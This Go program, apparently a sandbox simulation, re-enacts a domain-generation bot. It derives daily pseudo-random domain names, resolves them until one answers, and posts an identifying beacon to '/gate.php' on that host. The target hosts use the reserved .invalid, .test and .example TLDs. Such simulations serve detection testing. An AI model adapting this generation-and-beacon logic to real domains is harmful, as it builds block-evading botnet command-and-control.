// tzsync: harmless re-enactment of a domain-generation bot. A math/rand generator seeded with a
// constant and the UTC date makes 12-16 letter names; the bot resolves them one by one until one
// answers, then POSTs a beacon to it three times and exits. The day's unregistered candidates
// carry `.invalid` (answered NXDOMAIN by the sandbox, as an unregistered name would be); the slot
// the operator "registered" carries `.test` or `.example`. At most 24 lookups.
package main

import (
	"fmt"
	"math/rand"
	"net"
	"net/http"
	"strings"
	"time"
)

func main() {
	day := time.Now().UTC().Format("20060102")
	var seed uint64 = 0x5eed1e
	for _, c := range day {
		seed = seed*31 + uint64(c)
	}
	r := rand.New(rand.NewSource(int64(seed >> 1)))
	live := 10 + int(seed%7)
	tlds := []string{"test", "example"}
	client := &http.Client{Timeout: 8 * time.Second}
	for i := 0; i < 24; i++ {
		b := make([]byte, 12+r.Intn(5))
		for j := range b {
			b[j] = byte('a' + r.Intn(26))
		}
		tld := "invalid"
		if i == live {
			tld = tlds[r.Intn(len(tlds))]
		}
		name := string(b) + "." + tld
		if _, err := net.LookupHost(name); err != nil {
			fmt.Println("tzsync: no", name)
			continue
		}
		for k := 0; k < 3; k++ {
			body := strings.NewReader(fmt.Sprintf("id=7f3a91&seq=%d&day=%s", k, day))
			resp, err := client.Post("http://"+name+"/gate.php", "application/x-www-form-urlencoded", body)
			if err == nil {
				resp.Body.Close()
			}
			fmt.Println("tzsync: beacon", name, k, err)
			time.Sleep(time.Second)
		}
		return
	}
}
